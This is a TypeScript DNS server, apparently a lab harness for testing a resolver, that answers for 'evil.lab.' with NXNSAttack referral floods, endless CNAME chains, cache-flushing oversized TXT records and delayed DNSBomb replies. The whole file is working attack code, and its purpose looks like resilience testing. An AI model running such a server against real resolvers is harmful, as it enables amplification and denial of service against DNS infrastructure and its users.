/**
 * The name server of somebody who wants resolvers to work hard: `node attack-server.ts ADDRESS PORT`
 * serves `evil.lab.`, each name below one of its labels differently.
 *
 *   *.nxns   a referral to twenty servers whose addresses nobody knows (NXNSAttack)
 *   *.camp   an alias to another fresh name, without end (CAMP)
 *   *.flush  a kilobyte to be kept for a day (CacheFlush)
 *   *.bomb   an answer that is held back almost as long as anybody waits (DNSBomb)
 */

import { createSocket } from 'node:dgram';
import {
  decodeMessage,
  encodeMessage,
  type Message,
  parseRecord,
  printName,
  type ResourceRecord,
} from '#resolver';

const [address = '', port = ''] = process.argv.slice(2);

const SERVERS = 20;
/** Longer than a first question is waited for, shorter than all of them together. */
const HELD_MS = 2_500;
const SOA = record('evil.lab. 300 SOA ns.evil.lab. host.evil.lab. 1 7200 900 1209600 300');
const TEXT = Array.from({ length: 4 }, () => `"${'x'.repeat(240)}"`).join(' ');

let drawn = 0;
const fresh = () => `n${process.pid}x${++drawn}`;

const socket = createSocket('udp4');
socket.on('message', (data, { address: from, port: to }) => {
  const decoded = decodeMessage(data);
  const [question] = decoded.ok ? decoded.message.questions : [];
  if (!decoded.ok || question === undefined) return;
  const name = printName(question.name);
  const parts = answerFor(name.toLowerCase(), name);
  const reply: Message = { ...decoded.message, response: true, authoritative: true, ...parts };
  const send = () => socket.send(encodeMessage(reply), to, from);
  if (name.toLowerCase().endsWith('.bomb.evil.lab.')) setTimeout(send, HELD_MS);
  else send();
});
socket.bind(Number(port), address, () => console.log('ready'));

function answerFor(key: string, name: string): Partial<Message> {
  const [, attack] = /^[^.]+\.(nxns|camp|flush|bomb)\.evil\.lab\.$/.exec(key) ?? [];
  switch (attack) {
    case 'nxns': {
      const target = (index: number) => `${fresh()}-${index}.z0.lab.`;
      const authorities = Array.from({ length: SERVERS }, (_, index) =>
        record(`${name} 300 NS ${target(index)}`),
      );
      return { authoritative: false, authorities };
    }
    case 'camp':
      return { answers: [record(`${name} 300 CNAME ${fresh()}.camp.evil.lab.`)] };
    case 'bomb':
    case 'flush':
      return { answers: [record(`${name} 86400 TXT ${TEXT}`)] };
    default:
      return { authorities: [SOA] };
  }
}

function record(line: string): ResourceRecord {
  const parsed = parseRecord(line, { ttl: 300 });
  if (!parsed.ok) throw new Error(`${line}: ${parsed.reason}`);
  return parsed.record;
}
